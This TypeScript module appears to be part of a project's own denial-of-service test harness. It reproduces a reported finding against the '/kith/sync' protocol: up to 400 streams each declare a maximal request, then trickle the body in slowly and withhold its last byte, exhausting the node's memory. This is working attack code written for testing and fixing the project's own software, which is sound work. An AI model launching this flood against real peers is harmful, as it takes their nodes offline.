// /kith/sync request buffering (issue 11 finding 15): streams from identities that belong to no
// group, each sending a length prefix at the request limit and the request body slowly, never its
// last byte, so the victim holds it until its idle timeout; then a new stream takes its place.
import * as syncLimits from '../../src/node/sync/limits.js'
import { sleep, varint, whenEnded, writeAll } from './attacker.js'
import { hold, workers, type FloodContext } from './flood.js'
import type { Connection } from '@libp2p/interface'

/** The request limit when main exports no MAX_SYNC_REQUEST_BYTES (the 400 KiB). */
export const DEFAULT_SYNC_REQUEST_BYTES = 400 * 1024
/** Streams held at once (the issue: 400 streams × 400 KiB ≈ 300 MB). */
export const SYNC_BUFFER_STREAMS = 400
/** Streams per hostile connection: today's SYNC_MAX_STREAMS_PER_CONNECTION. */
export const SYNC_STREAMS_PER_IDENTITY = 4
/** The body goes out in this many pieces… */
export const SYNC_TRICKLE_PIECES = 10
/** …this far apart: the whole body (but one byte) in ≈8 s, inside today's 10 s idle timeout. */
export const SYNC_TRICKLE_GAP_MS = 800

function requestLimit(): number {
  const v = (syncLimits as Record<string, unknown>).MAX_SYNC_REQUEST_BYTES
  return typeof v === 'number' && v > 1 ? v : DEFAULT_SYNC_REQUEST_BYTES
}

export async function syncBuffer(cx: FloodContext): Promise<void> {
  const protocol =
    ((syncLimits as Record<string, unknown>).SYNC_PROTOCOL as string | undefined) ??
    '/kith/sync/1.0.0'
  const size = requestLimit()
  const body = new Uint8Array(size - 1).fill(0x0a)
  const piece = Math.ceil(body.length / SYNC_TRICKLE_PIECES)
  const streams = cx.smoke ? 20 : SYNC_BUFFER_STREAMS
  const identities = Math.ceil(streams / SYNC_STREAMS_PER_IDENTITY)
  cx.stats.note = `requests of ${size} B, ${streams} streams at once`

  const trickle = async (conn: Connection) => {
    while (!cx.signal.aborted && conn.status === 'open') {
      const s = await cx.pool.stream(conn, protocol)
      await writeAll(s, varint(size), cx.stats, cx.signal)
      for (
        let off = 0;
        off < body.length && s.status === 'open' && !cx.signal.aborted;
        off += piece
      ) {
        await writeAll(s, body.subarray(off, off + piece), cx.stats, cx.signal)
        await sleep(SYNC_TRICKLE_GAP_MS, cx.signal)
      }
      cx.stats.ops++
      await whenEnded(s, cx.signal)
    }
  }
  let started = 0
  await workers(cx, identities, async () => {
    if (started >= identities) return false
    started++
    const h = await cx.pool.spawn()
    const conn = await cx.pool.connect(h)
    await Promise.all(
      Array.from({ length: SYNC_STREAMS_PER_IDENTITY }, () =>
        trickle(conn).catch((err: unknown) => {
          if (!cx.signal.aborted) cx.stats.error(err)
        }),
      ),
    )
    return false
  })
  await hold(cx)
}
